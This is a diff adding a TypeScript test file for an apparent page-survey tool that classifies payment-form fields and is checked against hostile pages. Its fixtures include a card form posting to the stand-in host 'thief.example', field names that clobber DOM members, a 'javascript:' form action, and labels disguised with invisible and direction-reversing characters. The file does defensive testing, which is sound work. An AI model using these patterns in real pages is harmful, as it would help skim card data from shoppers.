@@ -1,0 +1,108 @@
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { BOUNDS, pageFactsSchema } from '@/utils/facts/page-facts';
+import { findSign } from '@/utils/sentinel/signs';
+import { survey } from '@/utils/survey/survey';
+import { laidOut } from './laid-out';
+
+const CARD =
+  '<label>Card number<input name=cardNumber value=4242424242424242></label><label>Expiry<input name=exp></label><label>CVV<input name=cvv type=password></label>';
+
+afterEach(() => vi.restoreAllMocks());
+
+const ask = (document: Document) => {
+  const facts = survey(document, findSign(document) ?? 'asked');
+  pageFactsSchema.parse(facts);
+  return facts;
+};
+
+describe('what is typed', () => {
+  it('is never read: no value of any field, by property or by attribute', () => {
+    const document = laidOut(`<form action=/pay>${CARD}<select name=exp_year><option value=27>2027</select>
+      <textarea name=note></textarea><input name=coupon><button>Pay $12.00</button></form>`);
+    const view = document.defaultView as unknown as Record<string, { prototype: object }>;
+    const readings: string[] = [];
+    for (const name of ['HTMLInputElement', 'HTMLSelectElement', 'HTMLTextAreaElement']) {
+      for (const property of ['value', 'valueAsNumber', 'defaultValue', 'selectedIndex']) {
+        const { prototype } = view[name] as { prototype: object };
+        const own = Object.getOwnPropertyDescriptor(prototype, property);
+        if (!own) continue;
+        Object.defineProperty(prototype, property, {
+          ...own,
+          get(this: Element) {
+            readings.push(`${this.getAttribute('name')}.${property}`);
+            return '';
+          },
+        });
+      }
+    }
+    const facts = ask(document);
+    expect(readings).toEqual([]);
+    expect(JSON.stringify(facts)).not.toContain('4242');
+    expect(facts.groups[0]?.fields.map(({ kind }) => kind)).toContain('cc-number');
+  });
+});
+
+describe('a hostile page', () => {
+  it("cannot hide where its form sends by fields that bear the names of the form's own members", () => {
+    const { groups } = ask(
+      laidOut(`<form action="http://thief.example/take" method=get>${CARD}<input name=action><input name=method>
+        <input name=elements><input name=getAttribute><input name=ownerDocument><input name=querySelectorAll><button>Pay</button></form>`),
+    );
+    expect(groups[0]?.targets[0]).toMatchObject({ url: 'http://thief.example/take', method: 'get' });
+  });
+
+  it("cannot take the document's own members away", () => {
+    const { groups } = ask(
+      laidOut(`<img name=querySelectorAll><img name=createTreeWalker><form name=documentElement></form><embed name=title>
+        <form action=/pay>${CARD}</form>`),
+    );
+    expect(groups.flatMap(({ fields }) => fields.map(({ kind }) => kind))).toContain('cc-number');
+  });
+
+  it('cannot make the facts larger than their bounds', () => {
+    const fields = Array.from(
+      { length: 400 },
+      (_, each) => `<input name=field${each} placeholder="${'x'.repeat(500)}">`,
+    );
+    const facts = ask(
+      laidOut(`<title>${'T'.repeat(5_000)}</title><form>${fields.slice(0, 200).join('')}${CARD}${fields.slice(200).join('')}</form>
+        ${'<p>Total $1.00 customs fee</p>'.repeat(400)}${'<h1>Big</h1>'.repeat(100)}`),
+    );
+    expect(facts.cut).toContain('fields');
+    expect(facts.groups.flatMap(({ fields: kept }) => kept).length).toBeLessThanOrEqual(BOUNDS.fields);
+    expect(facts.groups.flatMap(({ fields: kept }) => kept.map(({ kind }) => kind))).toContain('cc-number');
+    expect(JSON.stringify(facts).length).toBeLessThan(64_000);
+  });
+
+  it('is read through marks that turn or hide its letters', () => {
+    const { groups } = ask(
+      laidOut(
+        '<form><label>C\u200bard\u202e nu\u00admber<input></label><label>Exp\u200biry date<input></label><label>CV\u2060V<input></label></form>',
+      ),
+    );
+    expect(groups[0]?.fields.map(({ kind }) => kind)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
+  });
+
+  it('shows its fields in open shadow roots too', () => {
+    const document = laidOut('<shop-card></shop-card>');
+    const root = document.querySelector('shop-card')?.attachShadow({ mode: 'open' });
+    if (root) root.innerHTML = `<form action=/pay>${CARD}</form>`;
+    expect(ask(document).groups[0]?.fields.map(({ kind }) => kind)).toEqual([
+      'cc-number',
+      'cc-exp',
+      'cc-csc',
+    ]);
+  });
+
+  it.each([
+    '<form action="javascript:alert(1)"><input name=cc></form>',
+    '<form action="http://[bad"><input name=cc></form>',
+    `<base href="::::"><form action="x">${CARD}</form>`,
+    '<html lang="%%%"><meta property="og:price:currency" content="<script>"><p>Total 5</p>',
+    '<script type="application/ld+json">{"@type":"Organization","name":</script>',
+    `${'<div>'.repeat(30)}${CARD}`,
+    '',
+  ])('does not break the survey: %#', (html) => {
+    expect(() => ask(laidOut(html))).not.toThrow();
+  });
+});
